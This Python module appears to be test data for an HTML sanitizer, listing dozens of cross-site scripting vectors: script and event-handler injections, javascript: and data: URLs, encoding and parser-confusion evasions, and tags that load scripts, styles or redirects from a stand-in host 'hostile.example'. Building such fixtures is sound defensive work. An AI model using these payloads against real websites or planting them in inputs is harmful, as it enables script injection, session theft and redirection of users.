"""Markup that would run in a browser, if anybody let it."""

_RUN = "window.__hostile=1"
_AWAY = "http://hostile.example"

VECTORS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src={_AWAY}/x.js></script>",
    f"<script\x00>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x:x onerror={_RUN}//",
    f"<img/src='x'/onerror={_RUN}>",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f'<img src="{_AWAY}/x.png" srcset="{_AWAY}/y.png 2x">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>bấm</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math href='javascript:{_RUN}'>bấm</math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<body onload={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.__hostile=1</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}'>bấm</a>",
    f"<a href='JaVa\tScRiPt:{_RUN}'>bấm</a>",
    f"<a href='&#106;&#97;vascript&colon;{_RUN}'>bấm</a>",
    f"<a href='\x01javascript:{_RUN}'>bấm</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>bấm</a>",
    f"<a href='vbscript:{_RUN}'>bấm</a>",
    f"<a href='https://a.vn' onmouseover='{_RUN}' style='position:fixed;inset:0'>bấm</a>",
    f"<a href='//hostile.example/x' ping='{_AWAY}/ping'>bấm</a>",
    f"<p style='background:url({_AWAY}/x.png)'>nền</p>",
    f'<p style="width:expression({_RUN})">rộng</p>',
    f"<style>@import '{_AWAY}/x.css'; *{{background:url({_AWAY}/y.png)}}</style>",
    f"<link rel=stylesheet href='{_AWAY}/x.css'>",
    f"<link rel=prefetch href='{_AWAY}/x'>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href='{_AWAY}/'>",
    f"<form action='{_AWAY}'><button formaction='javascript:{_RUN}'>bấm</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>mở</summary></details>",
    f"<video><source onerror={_RUN} src={_AWAY}/v></video>",
    f"<marquee onstart={_RUN}>chạy</marquee>",
    f"<table background='javascript:{_RUN}'><tr><td onclick={_RUN}>ô</td></tr></table>",
    f"<p id=site name=site onclick={_RUN}>tên</p>",
    f"<template><script>{_RUN}</script></template>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"'\"-->]]>*/</script><svg/onload={_RUN}>",
    "{{constructor.constructor('window.__hostile=1')()}}",
)

# Left open, these take in whatever follows them, as in any browser.
OPEN = (
    f"<math><mtext></p><mglyph><svg><mtext><style><path id='</style><img onerror={_RUN} src>'>",
    f"<audio src={_AWAY}/a onerror={_RUN} autoplay>",
)

# Short enough for a name or a title.
SHORT = (
    f"<script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"</title></textarea><svg/onload={_RUN}>",
)


def in_short(place: int) -> str:
    """One of the short ones, another for each place."""
    return SHORT[place % len(SHORT)]
